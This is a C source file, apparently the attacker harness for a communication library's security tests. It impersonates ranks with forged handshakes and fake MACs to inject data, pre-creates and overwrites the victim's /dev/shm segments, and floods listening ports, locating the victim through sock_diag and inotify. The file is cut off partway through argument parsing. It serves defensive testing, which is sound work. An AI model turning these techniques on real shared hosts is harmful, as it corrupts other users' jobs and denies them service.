/* The attacker of tests/security: another unprivileged user on the node,
 * with nothing but what any user can see (/dev/shm names, the host's
 * listening sockets and their owners' uids) and do (connect to a port,
 * create a shm segment). It links nothing of gcoll: every wire format it
 * uses is written out here, as an attacker would write it from the source.
 *
 *   attacker inject [options]  find the job (gcoll-<hash>-... names in
 *       /dev/shm, inotify; listening ports of the victim's uid from
 *       sock_diag, which is what `ss -lt` and /proc/net/tcp show, with
 *       /proc/net/tcp as the fallback) and race the real ranks: on every
 *       port, for every sender, receiver and connection id, a net/socket
 *       hello {be32 "GHEL", be16 version 1, pad, be32 sender, be32
 *       receiver, be32 conn id, pad, be64 job hash} sent at once and
 *       followed by data steps ({le64 step, le32 nbytes, le32 proto} and a
 *       payload of int32 VALUEs); a refused hello is sent again every 10 ms
 *       for 1.5 s after the port appeared (the receiver may not have set
 *       that connection up yet). Each hello also goes once on a connection
 *       that first reads what the server says within 100 ms (a challenge,
 *       with an authenticated protocol) and answers with the hello
 *       followed by 32 random bytes as a forged MAC, then the data steps.
 *       With no name that reads as a hash, it uses hash 0.
 *   attacker squat [options]   pre-create the shm names a job will use,
 *       predicted from the first name seen of each job (gcoll-<hash>-S-R-ID
 *       for every S, R, ID; and the name's trailing number varied), mode
 *       0666; open, read and overwrite (with VALUEs) every segment of the
 *       victim it sees. Removes what it created when it ends.
 *   attacker flood [options]   hold as many connections as it can (up to
 *       --conns per port, descriptors permitting) to every listening port
 *       of the victim (rank listeners and the stores), silent or sending
 *       garbage, reopening each one the server closes.
 *
 * Options: -t SEC duration (default 10; it never runs longer, and SIGTERM
 * ends it early), -u UID the victim's uid (default: any uid but ours; the
 * tests always name one), -v (repeatable) verbosity on stderr, -n N ranks
 * to impersonate (4), -k K highest connection id (15), --steps S (32) and
 * --bytes B (4096) per data step, --value V (666), --proto ll|simple (ll),
 * --conns C per port (1000), --send none|garbage|mixed (mixed).
 *
 * Prints one summary line on stdout at the end and exits 0; 2 on bad
 * usage. Whether the attack worked is for the test to judge, from the
 * victim's results. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/random.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define SHM_DIR "/dev/shm"
#define HELLO_BYTES 32
#define MAC_BYTES 32
#define HDR_BYTES 16
#define MAX_PORTS 256
#define MAX_HASHES 64
#define MAX_SPRAYED 4096
#define QUEUE_MAX 65536
#define MAX_OWNED 8192
#define CONNECT_TIMEOUT_MS 300.0 /* loopback: longer means the SYN was dropped */
#define PORT_CONNECTING_MAX 48  /* connects in flight per port (a full backlog stalls them) */
#define CHALLENGE_WAIT_MS 100.0
#define HELD_MS 100.0
#define RECENT_HASH_MS 3000.0
#define NO_HASH_MS 20.0 
#define RETRY_MS 10.0         /* a refused hello is sent again after this ... */
#define RETRY_WINDOW_MS 1500.0 /* ... while the port is younger than this */      /* a port with no readable hash at all: try hash 0 */

enum mode { M_INJECT, M_SQUAT, M_FLOOD };
enum send_kind { SEND_NONE, SEND_GARBAGE, SEND_MIXED };

static struct {
  enum mode mode;
  double duration_s;
  long uid;          /* -1: any uid but ours */
  int verbose;
  int nranks, max_id;
  int steps, bytes, value, proto;
  int conns_per_port;
  enum send_kind send;
} opt = {M_INJECT, 10.0, -1, 0, 4, 15, 32, 4096, 666, 1, 1000, SEND_MIXED};

static volatile sig_atomic_t stop_flag;
static double t_start;

static double now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec * 1e3 + (double)ts.tv_nsec / 1e6;
}

static void vlog(int level, const char *fmt, ...) {
  if (opt.verbose < level) return;
  va_list ap;
  va_start(ap, fmt);
  fprintf(stderr, "attacker [%8.1f ms] ", now_ms() - t_start);
  vfprintf(stderr, fmt, ap);
  fputc('\n', stderr);
  va_end(ap);
}

static void on_signal(int sig) {
  (void)sig;
  stop_flag = 1;
}

static int uid_is_target(uid_t u) {
  return opt.uid >= 0 ? (long)u == opt.uid : u != getuid();
}

static void put_be16(unsigned char *p, uint16_t v) {
  p[0] = (unsigned char)(v >> 8);
  p[1] = (unsigned char)v;
}
static void put_be32(unsigned char *p, uint32_t v) {
  put_be16(p, (uint16_t)(v >> 16));
  put_be16(p + 2, (uint16_t)v);
}
static void put_be64(unsigned char *p, uint64_t v) {
  put_be32(p, (uint32_t)(v >> 32));
  put_be32(p + 4, (uint32_t)v);
}
static void put_le(unsigned char *p, uint64_t v, int n) {
  for (int i = 0; i < n; i++) p[i] = (unsigned char)(v >> (8 * i));
}

static void random_bytes(void *buf, size_t n) {
  unsigned char *p = buf;
  while (n > 0) {
    ssize_t r = getrandom(p, n, 0);
    if (r <= 0) {
      for (size_t i = 0; i < n; i++) p[i] = (unsigned char)rand();
      return;
    }
    p += r;
    n -= (size_t)r;
  }
}

/* ---- what the attacker learns: job hashes from shm names ------------------ */

static struct {
  uint64_t hash;
  double seen_ms;
  int squatted;
} hashes[MAX_HASHES];
static int nhashes;
static int new_hash_seen; /* the main loop rescans the ports at once */
static struct {
  long names_seen, hashes_seen;
  long precreated, precreate_exists, precreate_failed;
  long opened_rw, opened_ro, denied, read_bytes, written_bytes;
} shm_stats;

/* gcoll-<16 hex>-...: the hash, or 0 when the name has no such field. */
static int parse_hash(const char *name, uint64_t *hash) {
  if (strncmp(name, "gcoll-", 6) != 0) return 0;
  const char *h = name + 6;
  for (int i = 0; i < 16; i++)
    if (!isxdigit((unsigned char)h[i])) return 0;
  if (h[16] != '-' && h[16] != '\0') return 0;
  char buf[17];
  memcpy(buf, h, 16);
  buf[16] = '\0';
  *hash = strtoull(buf, NULL, 16);
  return 1;
}

static int newest_hash(uint64_t *hash, double *seen) {
  if (nhashes == 0) return 0;
  int best = 0;
  for (int i = 1; i < nhashes; i++)
    if (hashes[i].seen_ms > hashes[best].seen_ms) best = i;
  *hash = hashes[best].hash;
  *seen = hashes[best].seen_ms;
  return 1;
}

/* Names this process created (squat), removed at exit. */
static char *owned[MAX_OWNED];
static int nowned;

static int is_owned(const char *name) {
  for (int i = 0; i < nowned; i++)
    if (strcmp(owned[i], name + (name[0] == '/')) == 0) return 1;
  return 0;
}

static void precreate(const char *name) {
  char path[300];
  snprintf(path, sizeof(path), "/%s", name);
  int fd = shm_open(path, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0666);
  if (fd < 0) {
    if (errno == EEXIST) shm_stats.precreate_exists++;
    else shm_stats.precreate_failed++;
    return;
  }
  (void)fchmod(fd, 0666);
  (void)ftruncate(fd, 4096);
  close(fd);
  shm_stats.precreated++;
  if (nowned < MAX_OWNED) owned[nowned++] = strdup(name);
  vlog(2, "squat: created %s", name);
}

/* From a name of the job, every name it may still create. */
static void squat_predict(const char *name, uint64_t hash, int have_hash) {
  char buf[300];
  if (have_hash) {
    for (int id = 0; id <= opt.max_id; id++)
      for (int r = 0; r < opt.nranks; r++)
        for (int s = 0; s < opt.nranks; s++) {
          if (s == r) continue;
          snprintf(buf, sizeof(buf), "gcoll-%016" PRIx64 "-%d-%d-%d", hash, s, r, id);
          precreate(buf);
        }
  }
  /* Whatever the scheme: the same name with its trailing number varied. */
  size_t len = strlen(name), end = len;
  while (end > 0 && isdigit((unsigned char)name[end - 1])) end--;
  if (end < len && end > 0 && end < 200) {
    for (int v = 0; v <= opt.max_id; v++) {
      snprintf(buf, sizeof(buf), "%.*s%d", (int)end, name, v);
      precreate(buf);
    }
  }
}

/* Open, read and write a segment of the victim's, as far as it lets us. */
static void squat_touch(const char *name) {
  char path[300];
  snprintf(path, sizeof(path), "/%s", name);
  int fd = shm_open(path, O_RDWR | O_CLOEXEC, 0);
  int rw = fd >= 0;
  if (fd < 0) fd = shm_open(path, O_RDONLY | O_CLOEXEC, 0);
  if (fd < 0) {
    shm_stats.denied++;
    vlog(2, "squat: %s: %s", name, strerror(errno));
    return;
  }
  struct stat st;
  if (fstat(fd, &st) != 0 || !uid_is_target(st.st_uid)) {
    /* Gone and made again meanwhile, by us (a prediction) or a stranger. */
    close(fd);
    return;
  }
  rw ? shm_stats.opened_rw++ : shm_stats.opened_ro++;
  if (st.st_size > 0) {
    size_t n = (size_t)st.st_size;
    void *m = mmap(NULL, n, rw ? PROT_READ | PROT_WRITE : PROT_READ, MAP_SHARED, fd, 0);
    if (m != MAP_FAILED) {
      volatile const unsigned char *p = m;
      unsigned sum = 0;
      for (size_t i = 0; i < n; i += 64) sum += p[i];
      shm_stats.read_bytes += (long)n;
      if (rw && n > 256) {
        /* Past the FIFO's header: payload slots, filled with VALUE. */
        int32_t *w = (int32_t *)((char *)m + 256);
        for (size_t i = 0; i < (n - 256) / 4; i++) w[i] = opt.value;
        shm_stats.written_bytes += (long)(n - 256);
      }
      munmap(m, n);
      vlog(1, "squat: opened %s of uid %u (%s, %zu bytes, checksum %u)", name,
           (unsigned)st.st_uid, rw ? "read-write, overwritten" : "read-only", n, sum);
    }
  }
  close(fd);
}

/* A name appeared in /dev/shm (or was there at a scan). */
static void on_shm_name(const char *name) {
  if (strncmp(name, "gcoll", 5) != 0 || is_owned(name)) return;
  char path[300];
  struct stat st;
  snprintf(path, sizeof(path), SHM_DIR "/%s", name);
  if (stat(path, &st) != 0 || !uid_is_target(st.st_uid)) return;
  shm_stats.names_seen++;
  uint64_t h = 0;
  int have = parse_hash(name, &h);
  int known = -1;
  for (int i = 0; have && i < nhashes; i++)
    if (hashes[i].hash == h) known = i;
  int first = 0;
  if (have && known < 0) {
    if (nhashes == MAX_HASHES) {
      int oldest = 0;
      for (int i = 1; i < nhashes; i++)
        if (hashes[i].seen_ms < hashes[oldest].seen_ms) oldest = i;
      hashes[oldest] = hashes[--nhashes];
    }
    known = nhashes++;
    hashes[known].hash = h;
    hashes[known].squatted = 0;
    shm_stats.hashes_seen++;
    first = 1;
    vlog(1, "job hash %016" PRIx64 " from %s (uid %u)", h, name, (unsigned)st.st_uid);
    new_hash_seen = 1;
  }
  if (known >= 0) hashes[known].seen_ms = now_ms();
  if (opt.mode != M_SQUAT) return;
  if (first || !have) {
    if (known >= 0) hashes[known].squatted = 1;
    squat_predict(name, h, have);
  }
  squat_touch(name);
}

static void scan_shm_dir(void) {
  DIR *d = opendir(SHM_DIR);
  if (d == NULL) return;
  struct dirent *de;
  while ((de = readdir(d)) != NULL && !stop_flag) on_shm_name(de->d_name);
  closedir(d);
}

static void read_inotify(int fd) {
  char buf[16384] __attribute__((aligned(__alignof__(struct inotify_event))));
  for (;;) {
    ssize_t n = read(fd, buf, sizeof(buf));
    if (n <= 0) return;
    for (char *p = buf; p < buf + n;) {
      struct inotify_event *ev = (struct inotify_event *)p;
      if (ev->mask & IN_Q_OVERFLOW) scan_shm_dir();
      else if (ev->len > 0) on_shm_name(ev->name);
      p += sizeof(*ev) + ev->len;
    }
  }
}

/* ---- what the attacker learns: the victim's listening ports ---------------- */

static struct port {
  int family;
  unsigned char addr[16];
  uint16_t port;
  unsigned long inode;
  double seen_ms;
  int alive, nconns, connecting;
  uint64_t last_hash;  /* newest hash sprayed at it */
  int sprayed;
} ports[MAX_PORTS];
static int nports;

static void saw_listener(int family, const unsigned char addr[16], unsigned lport, unsigned uid,
                         unsigned long inode, int gen);

static void scan_proc(const char *file, int family, int gen) {
  FILE *f = fopen(file, "r");
  if (f == NULL) return;
  char line[512];
  if (fgets(line, sizeof(line), f) == NULL) {
    fclose(f);
    return;
  }
  while (fgets(line, sizeof(line), f) != NULL) {
    char local[64];
    unsigned lport, st, uid;
    unsigned long inode;
    if (sscanf(line, " %*d: %63[0-9A-Fa-f]:%x %*s %x %*s %*s %*s %u %*d %lu", local, &lport,
               &st, &uid, &inode) != 5)
      continue;
    if (st != 0x0A) continue;
    unsigned char addr[16] = {0};
    size_t words = family == AF_INET ? 1 : 4;
    if (strlen(local) != 8 * words) continue;
    for (size_t w = 0; w < words; w++) {
      char hex[9];
      memcpy(hex, local + 8 * w, 8);
      hex[8] = '\0';
      uint32_t v = (uint32_t)strtoul(hex, NULL, 16);
      memcpy(addr + 4 * w, &v, 4); /* /proc prints each raw word as a host integer */
    }
    saw_listener(family, addr, lport, uid, inode, gen);
  }
  fclose(f);
}

/* One listener seen (from sock_diag or /proc/net/tcp). */
static void saw_listener(int family, const unsigned char addr[16], unsigned lport, unsigned uid,
                         unsigned long inode, int gen) {
  if (!uid_is_target((uid_t)uid)) return;
  int found = -1;
  for (int i = 0; i < nports; i++)
    if (ports[i].family == family && ports[i].port == lport && ports[i].inode == inode &&
        memcmp(ports[i].addr, addr, 16) == 0)
      found = i;
  if (found < 0) {
    if (nports == MAX_PORTS) {
      for (int i = 0; i < nports && found < 0; i++)
        if (!ports[i].alive && ports[i].nconns == 0) found = i;
      if (found < 0) return;
    } else {
      found = nports++;
    }
    memset(&ports[found], 0, sizeof(ports[found]));
    ports[found].family = family;
    memcpy(ports[found].addr, addr, 16);
    ports[found].port = (uint16_t)lport;
    ports[found].inode = inode;
    ports[found].seen_ms = now_ms();
    vlog(1, "listener of uid %u on port %u", uid, lport);
  }
  ports[found].alive = gen;
}

/* The listening TCP sockets of the host through sock_diag (what `ss -lt`
 * uses: the same uid and port as /proc/net/tcp, filtered by the kernel, so
 * it stays fast with thousands of sockets in TIME_WAIT); -1 when netlink
 * is not available. */
static int scan_diag(int family, int gen) {
  int fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
  if (fd < 0) return -1;
  struct {
    struct nlmsghdr nlh;
    struct inet_diag_req_v2 req;
  } msg;
  memset(&msg, 0, sizeof(msg));
  msg.nlh.nlmsg_len = sizeof(msg);
  msg.nlh.nlmsg_type = SOCK_DIAG_BY_FAMILY;
  msg.nlh.nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP;
  msg.req.sdiag_family = (unsigned char)family;
  msg.req.sdiag_protocol = IPPROTO_TCP;
  msg.req.idiag_states = 1u << 10; /* TCP_LISTEN */
  struct sockaddr_nl nl = {.nl_family = AF_NETLINK};
  if (sendto(fd, &msg, sizeof(msg), 0, (struct sockaddr *)&nl, sizeof(nl)) < 0) {
    close(fd);
    return -1;
  }
  static char buf[32768] __attribute__((aligned(8)));
  int rc = -1;
  for (;;) {
    struct pollfd p = {.fd = fd, .events = POLLIN};
    if (poll(&p, 1, 200) <= 0) break;
    ssize_t n = recv(fd, buf, sizeof(buf), 0);
    if (n <= 0) break;
    int done = 0;
    for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (size_t)n);
         h = NLMSG_NEXT(h, n)) {
      if (h->nlmsg_type == NLMSG_DONE) {
        done = 1;
        rc = 0;
        break;
      }
      if (h->nlmsg_type == NLMSG_ERROR) {
        done = 1;
        break;
      }
      if (h->nlmsg_type != SOCK_DIAG_BY_FAMILY || h->nlmsg_len < NLMSG_LENGTH(sizeof(struct inet_diag_msg)))
        continue;
      const struct inet_diag_msg *m = NLMSG_DATA(h);
      unsigned char addr[16] = {0};
      memcpy(addr, m->id.idiag_src, m->idiag_family == AF_INET ? 4 : 16);
      saw_listener(m->idiag_family, addr, ntohs(m->id.idiag_sport), m->idiag_uid, m->idiag_inode,
                   gen);
    }
    if (done) break;
  }
  close(fd);
  return rc;
}

static void scan_ports(void) {
  static int gen, use_proc;
  gen = gen % 1000000 + 1;
  if (!use_proc && (scan_diag(AF_INET, gen) != 0 || scan_diag(AF_INET6, gen) != 0)) {
    use_proc = 1;
    vlog(1, "no sock_diag: reading /proc/net/tcp instead");
  }
  if (use_proc) {
    scan_proc("/proc/net/tcp", AF_INET, gen);
    scan_proc("/proc/net/tcp6", AF_INET6, gen);
  }
  for (int i = 0; i < nports; i++)
    if (ports[i].alive != gen) ports[i].alive = 0;
}

/* ---- connections ----------------------------------------------------------- */

enum conn_kind { K_RACE, K_CHAL, K_FLOOD };
enum conn_state { S_CONNECTING, S_WAITCHAL, S_SENDING, S_HOLD };

struct conn {
  int fd;
  enum conn_kind kind;
  enum conn_state st;
  int port;
  double t0, t_state;
  int sender, receiver;
  uint32_t id;
  uint64_t hash;
  int garbage, server_spoke, held;
  unsigned char pre[HELLO_BYTES + MAC_BYTES];
  size_t prelen, off, total;
};

static struct conn *conns;
static int nconns, max_conns;
static unsigned char *steps_buf; /* the data steps every injecting connection sends */
static size_t steps_len;

static struct {
  long opened, connected, refused, timeouts, closed_by_server, challenges, hellos_sent;
  long data_sent_conns, held, max_open;
} cstats;

static void close_conn(int i) {
  struct conn *c = &conns[i];
  close(c->fd);
  if (c->port >= 0 && c->port < nports && ports[c->port].nconns > 0) ports[c->port].nconns--;
  conns[i] = conns[--nconns];
}

static int open_conn(int p, enum conn_kind kind) {
  if (nconns >= max_conns) return -1;
  struct port *pt = &ports[p];
  int fd = socket(pt->family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  struct sockaddr_storage ss;
  socklen_t len;
  memset(&ss, 0, sizeof(ss));
  static const unsigned char zero[16];
  if (pt->family == AF_INET) {
    struct sockaddr_in *a = (struct sockaddr_in *)&ss;
    a->sin_family = AF_INET;
    a->sin_port = htons(pt->port);
    memcpy(&a->sin_addr, pt->addr, 4);
    if (memcmp(pt->addr, zero, 4) == 0) a->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    len = sizeof(*a);
  } else {
    struct sockaddr_in6 *a = (struct sockaddr_in6 *)&ss;
    a->sin6_family = AF_INET6;
    a->sin6_port = htons(pt->port);
    memcpy(&a->sin6_addr, pt->addr, 16);
    if (memcmp(pt->addr, zero, 16) == 0) a->sin6_addr = in6addr_loopback;
    len = sizeof(*a);
  }
  if (connect(fd, (struct sockaddr *)&ss, len) != 0 && errno != EINPROGRESS) {
    cstats.refused++;
    close(fd);
    return -1;
  }
  struct conn *c = &conns[nconns++];
  memset(c, 0, sizeof(*c));
  c->fd = fd;
  c->kind = kind;
  c->st = S_CONNECTING;
  c->port = p;
  c->t0 = c->t_state = now_ms();
  pt->nconns++;
  cstats.opened++;
  if (nconns > cstats.max_open) cstats.max_open = nconns;
  return nconns - 1;
}

/* The old net/socket hello, as the sender writes it. */
static void build_hello(unsigned char *h, int sender, int receiver, uint32_t id, uint64_t hash) {
  memset(h, 0, HELLO_BYTES);
  put_be32(h, 0x4748454cu); /* "GHEL" */
  put_be16(h + 4, 1);
  put_be32(h + 8, (uint32_t)sender);
  put_be32(h + 12, (uint32_t)receiver);
  put_be32(h + 16, id);
  put_be64(h + 24, hash);
}

static void build_steps(void) {
  size_t one = HDR_BYTES + (size_t)opt.bytes;
  steps_len = one * (size_t)opt.steps;
  steps_buf = malloc(steps_len ? steps_len : 1);
  if (steps_buf == NULL) {
    fprintf(stderr, "attacker: out of memory\n");
    exit(1);
  }
  for (int s = 0; s < opt.steps; s++) {
    unsigned char *p = steps_buf + (size_t)s * one;
    put_le(p, (uint64_t)s, 8);
    put_le(p + 8, (uint64_t)opt.bytes, 4);
    put_le(p + 12, (uint64_t)opt.proto, 4);
    for (int i = 0; i + 4 <= opt.bytes; i += 4) put_le(p + HDR_BYTES + i, (uint32_t)opt.value, 4);
  }
}

/* ---- inject: which hellos to try where ------------------------------------- */

struct spray {
  int port;
  uint64_t hash;
  int sender, receiver;
  uint32_t id;
  enum conn_kind kind;
  double not_before;
};
/* Three queues: refused hellos tried again (the receiver may not have
 * set that connection up yet), then new hellos sent at once (racing the
 * real sender), then those that wait for a challenge. */
static struct squeue {
  struct spray *q;
  size_t head, len;
} queues[3];

static void push(struct squeue *q, struct spray sp) {
  if (q->len < QUEUE_MAX) q->q[(q->head + q->len++) % QUEUE_MAX] = sp;
}

static void enqueue_spray(int p, uint64_t hash) {
  ports[p].sprayed++;
  ports[p].last_hash = hash;
  vlog(1, "spraying port %u with job hash %016" PRIx64, ports[p].port, hash);
  for (int id = 0; id <= opt.max_id; id++)
    for (int r = 0; r < opt.nranks; r++)
      for (int s = 0; s < opt.nranks; s++) {
        if (s == r) continue;
        push(&queues[1], (struct spray){p, hash, s, r, (uint32_t)id, K_RACE, 0});
        push(&queues[2], (struct spray){p, hash, s, r, (uint32_t)id, K_CHAL, 0});
      }
}

/* A new hash makes queued hellos with older ones worthless. */
static void drop_queue_except(uint64_t hash) {
  for (int k = 0; k < 3; k++) {
    struct squeue *q = &queues[k];
    size_t kept = 0;
    for (size_t i = 0; i < q->len; i++) {
      struct spray sp = q->q[(q->head + i) % QUEUE_MAX];
      if (sp.hash == hash) q->q[(q->head + kept++) % QUEUE_MAX] = sp;
    }
    q->len = kept;
  }
}

static void plan_sprays(void) {
  uint64_t h = 0;
  double seen = 0;
  int have = newest_hash(&h, &seen);
  double now = now_ms();
  if (have && now - seen > RECENT_HASH_MS) have = 0;
  static uint64_t last_newest;
  static int last_have;
  if (have && (!last_have || h != last_newest)) drop_queue_except(h);
  last_have = have;
  last_newest = h;
  for (int p = 0; p < nports; p++) {
    struct port *pt = &ports[p];
    if (!pt->alive) continue;
    if (have) {
      /* The newest job's hash, at once; again whenever a newer one shows. */
      if (pt->sprayed == 0 || pt->last_hash != h) enqueue_spray(p, h);
    } else if (pt->sprayed == 0 && now - pt->seen_ms >= NO_HASH_MS) {
      /* No name that reads as a hash: try 0. */
      enqueue_spray(p, 0);
    }
  }
}

static int step_conn(int i, short rev, double now);

static void launch_sprays(void) {
  for (int p = 0; p < nports; p++) ports[p].connecting = 0;
  for (int i = 0; i < nconns; i++) ports[conns[i].port].connecting += conns[i].st == S_CONNECTING;
  double now = now_ms();
  for (int k = 0; k < 3; k++) {
    struct squeue *q = &queues[k];
    /* One pass over the queue at most: entries for a port with too many
     * connects in flight go to the back. */
    for (size_t n = q->len; n > 0 && q->len > 0 && nconns < max_conns && !stop_flag; n--) {
      struct spray sp = q->q[q->head];
      if (sp.not_before > now) break;
      q->head = (q->head + 1) % QUEUE_MAX;
      q->len--;
      if (!ports[sp.port].alive || ports[sp.port].last_hash != sp.hash) continue;
      if (ports[sp.port].connecting >= PORT_CONNECTING_MAX) {
        push(q, sp);
        continue;
      }
      int i = open_conn(sp.port, sp.kind);
      if (i < 0) continue;
      struct conn *c = &conns[i];
      c->sender = sp.sender;
      c->receiver = sp.receiver;
      c->id = sp.id;
      c->hash = sp.hash;
      build_hello(c->pre, sp.sender, sp.receiver, sp.id, sp.hash);
      c->prelen = HELLO_BYTES;
      if (sp.kind == K_CHAL) {
        random_bytes(c->pre + HELLO_BYTES, MAC_BYTES);
        c->prelen += MAC_BYTES;
      }
      c->total = c->prelen + steps_len;
      /* Loopback connects at once: say hello in the same breath. */
      struct pollfd pf = {.fd = c->fd, .events = POLLOUT};
      int port = sp.port;
      if (poll(&pf, 1, 0) != 1 || (step_conn(i, pf.revents, now_ms()) == 0 &&
                                   conns[i].st == S_CONNECTING))
        ports[port].connecting++;
    }
  }
}

/* ---- flood ----------------------------------------------------------------- */

static void launch_flood(void) {
  for (int p = 0; p < nports; p++) {
    struct port *pt = &ports[p];
    if (!pt->alive) continue;
    for (int burst = 0; burst < 64 && pt->nconns < opt.conns_per_port; burst++) {
      int i = open_conn(p, K_FLOOD);
      if (i < 0) break;
      struct conn *c = &conns[i];
      c->garbage = opt.send == SEND_GARBAGE || (opt.send == SEND_MIXED && (cstats.opened & 1));
      if (c->garbage) {
        c->prelen = 1 + (size_t)(rand() % (int)sizeof(c->pre));
        random_bytes(c->pre, c->prelen);
        c->total = c->prelen;
      }
    }
  }
}

/* ---- the connection state machine ----------------------------------------- */

static void drain(int i, int *closed) {
  char sink[4096];
  for (;;) {
    ssize_t r = recv(conns[i].fd, sink, sizeof(sink), MSG_DONTWAIT);
    if (r > 0) {
      conns[i].server_spoke = 1;
      continue;
    }
    if (r < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR)) return;
    *closed = 1;
    return;
  }
}

/* Sends what is left of pre + data; 1 when all is out, 0 when the socket is
 * full, -1 when the server is gone. */
static int send_rest(struct conn *c) {
  while (c->off < c->total) {
    struct iovec iov[2];
    int n = 0;
    if (c->off < c->prelen) iov[n++] = (struct iovec){c->pre + c->off, c->prelen - c->off};
    if (c->kind != K_FLOOD) {
      size_t doff = c->off > c->prelen ? c->off - c->prelen : 0;
      if (doff < steps_len) iov[n++] = (struct iovec){steps_buf + doff, steps_len - doff};
    }
    struct msghdr msg = {.msg_iov = iov, .msg_iovlen = (size_t)n};
    ssize_t w = sendmsg(c->fd, &msg, MSG_NOSIGNAL | MSG_DONTWAIT);
    if (w < 0) return errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR ? 0 : -1;
    if (c->off < HELLO_BYTES && c->off + (size_t)w >= HELLO_BYTES && c->kind != K_FLOOD)
      cstats.hellos_sent++;
    c->off += (size_t)w;
  }
  return 1;
}

static void to_sending(struct conn *c) {
  c->st = S_SENDING;
  c->t_state = now_ms();
}

/* Handles one connection's poll result; returns 1 when it was closed. */
static int step_conn(int i, short rev, double now) {
  struct conn *c = &conns[i];
  int closed = 0;
  switch (c->st) {
  case S_CONNECTING: {
    if (!(rev & (POLLOUT | POLLERR | POLLHUP))) {
      if (now - c->t0 > CONNECT_TIMEOUT_MS) {
        cstats.timeouts++;
        close_conn(i);
        return 1;
      }
      return 0;
    }
    int e = 0;
    socklen_t el = sizeof(e);
    if (getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &e, &el) != 0 || e != 0) {
      cstats.refused++;
      close_conn(i);
      return 1;
    }
    cstats.connected++;
    c->t_state = now;
    if (c->kind == K_CHAL) c->st = S_WAITCHAL;
    else if (c->kind == K_RACE || c->garbage) to_sending(c);
    else c->st = S_HOLD;
    if (c->st != S_SENDING) return 0;
    rev = POLLOUT;
  }
    __attribute__((fallthrough)); /* connected: send at once */
  case S_WAITCHAL:
    if (c->st == S_WAITCHAL) {
      if (rev & (POLLIN | POLLHUP | POLLERR)) {
        char buf[256];
        ssize_t r = recv(c->fd, buf, sizeof(buf), MSG_DONTWAIT);
        if (r > 0) {
          c->server_spoke = 1;
          cstats.challenges++;
          vlog(2, "port %u said %zd bytes first (a challenge?)", ports[c->port].port, r);
          to_sending(c);
          rev = POLLOUT;
        } else if (r == 0 || (errno != EAGAIN && errno != EINTR)) {
          closed = 1;
          break;
        }
      } else if (now - c->t_state >= CHALLENGE_WAIT_MS) {
        to_sending(c);
        rev = POLLOUT;
      } else {
        return 0;
      }
    }
    __attribute__((fallthrough));
  case S_SENDING:
    if (rev & POLLIN) drain(i, &closed);
    if (closed) break;
    if (rev & (POLLOUT | POLLERR | POLLHUP)) {
      int r = send_rest(c);
      if (r < 0) {
        closed = 1;
        break;
      }
      if (r == 1) {
        if (c->kind != K_FLOOD) cstats.data_sent_conns++;
        c->st = S_HOLD;
        c->t_state = now;
      }
    }
    break;
  case S_HOLD:
    if (rev & (POLLIN | POLLHUP | POLLERR)) drain(i, &closed);
    if (!closed && c->kind != K_FLOOD && !c->held && now - c->t_state >= HELD_MS) {
      c->held = 1;
      cstats.held++;
      vlog(1, "port %u kept the connection of a hello as rank %d to rank %d, connection id %u, "
              "after all %d data steps",
           ports[c->port].port, c->sender, c->receiver, c->id, opt.steps);
    }
    break;
  }
  if (closed) {
    struct port *pt = &ports[c->port];
    if (c->kind == K_RACE && !c->held && pt->alive && pt->last_hash == c->hash &&
        now - pt->seen_ms < RETRY_WINDOW_MS)
      push(&queues[0], (struct spray){c->port, c->hash, c->sender, c->receiver, c->id, K_RACE,
                                      now + RETRY_MS});
    if (c->kind != K_FLOOD)
      vlog(3, "port %u closed hello %d->%d id %u after %.1f ms (state %d, sent %zu)",
           ports[c->port].port, c->sender, c->receiver, c->id, now - c->t0, (int)c->st, c->off);
    cstats.closed_by_server++;
    close_conn(i);
    return 1;
  }
  return 0;
}

/* ---- main ------------------------------------------------------------------ */

static void usage(void) {
  fprintf(stderr,
          "usage: attacker inject|squat|flood [-t SEC] [-u UID] [-v] [-n NRANKS] [-k MAX_CONN_ID]\n"
          "       [--steps S] [--bytes B] [--value V] [--proto ll|simple] [--conns C]\n"
          "       [--send none|garbage|mixed]\n");
  exit(2);
}

static void parse_args(int argc, char **argv) {
  if (argc < 2) usage();
  if (strcmp(argv[1], "inject") == 0) opt.mode = M_INJECT;
  else if (strcmp(argv[1], "squat") == 0) opt.mode = M_SQUAT;
  else if (strcmp(argv[1], "flood") == 0) opt.mode = M_FLOOD;
  else usage();
  static const struct option lo[] = {
      {"duration", required_argument, NULL, 't'}, {"uid", required_argument, NULL, 'u'},
      {"verbose", no_argument, NULL, 'v'},        {"nranks", required_argument, NULL, 'n'},
      {"max-conn-id", required_argument, NULL, 'k'}, {"steps", required_argument, NULL, 'S'},
      {"bytes", required_argument, NULL, 'B'},    {"value", required_argument, NULL, 'V'},
      {"proto", required_argument, NULL, 'P'},    {"conns", required_argument, NULL, 'C'},
      {"send", required_argument, NULL, 'G'},     {NULL, 0, NULL, 0}};
  int ch;
  optind = 2;
  while ((ch = getopt_long(argc, argv, "t:u:vn:k:", lo, NULL)) != -1) {
    switch (ch) {
    case 't': opt.duration_s = atof(optarg); break;
    case 'u': opt.uid = atol(optarg); break;
    case 'v': opt.verbose++; break;
    case 'n': opt.nranks = atoi(optarg); break;
    case 'k': opt.max_id = atoi(optarg); break;
